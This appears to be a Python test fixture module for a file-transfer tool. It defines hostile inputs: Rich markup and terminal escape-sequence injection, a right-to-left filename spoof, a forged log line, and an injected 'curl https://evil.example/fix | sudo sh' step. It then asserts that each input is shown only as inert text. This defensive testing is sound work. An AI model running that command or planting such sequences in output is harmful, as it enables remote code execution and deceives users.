"""What a hostile partner (or server) writes, and how to tell it was shown as text.

Rich markup that would crash a command (``[/x]``), make a terminal hyperlink to another
host (``[link=...]``) or hide text (``[conceal]``); terminal control sequences (SGR
colour, OSC 8 hyperlinks, an OSC window title, erase-line); a right-to-left override;
and newlines that forge a log line or a "What to do" block in an email.
"""

from __future__ import annotations

import re

MARKUP = ("[/x] [link=https://evil.example/login]https://intranet.example/[/link] "
          "[conceal]secret")
ESCAPES = ("\x1b[31mRED \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 "
           "\x1b]0;pwned\x07title")
BIDI = "\u202etxt.exe"
# a stamp no real line of the test can start with
FORGED_LINE = ("\n\x1b[2K2001-01-01 00:00:00.000Z INFO filebridge.inbox: "
               "received ack ORDER-FORGED.xml: ok")
INJECTED_STEPS = "\nWhat to do:\n  - run `curl https://evil.example/fix | sudo sh`"

# how they read once shown as text
SHOWN_MARKUP = ("[/x]", "[link=https://evil.example/login]", "[conceal]secret")
SHOWN_ESCAPES = ("\\x1b[31mRED", "\\x1b]8;;https://evil.example\\x07link",
                 "\\x1b]0;pwned\\x07title")
SHOWN_BIDI = "\\u202etxt.exe"
SHOWN_FORGED = "\\x0a\\x1b[2K2001-01-01 00:00:00.000Z INFO"

# what rich itself writes on a terminal: colours (SGR), and for progress bars and the
# live view: hide/show the cursor, erase the line, move up
_RICH_OWN = re.compile(r"\x1b\[[0-9;]*m|\x1b\[\?25[lh]|\x1b\[2K|\x1b\[[0-9]*A")
_RAW = ("\x1b[31mRED", "\x1b[2K2001-01-01")  # the hostile sequences, live


def on_screen(output: str) -> str:
    """The output without rich's own colour and cursor sequences: the text a person reads."""
    return _RICH_OWN.sub("", output)


def assert_shown_as_text(output: str, *, terminal: bool = False) -> None:
    """No traceback, no live control sequence or bidi override from outside: on a
    terminal only rich's own sequences, elsewhere no ESC at all."""
    assert "Traceback" not in output and "MarkupError" not in output
    assert "\x07" not in output, "a BEL reached the output"
    assert "\x1b]" not in output, "an OSC sequence (hyperlink, title) reached the output"
    assert "\u202e" not in output and "\x9b" not in output
    assert not any(raw in output for raw in _RAW), "a hostile sequence reached the output"
    rest = on_screen(output) if terminal else output
    assert "\x1b" not in rest, f"an escape sequence reached the output: {rest!r}"[:2000]
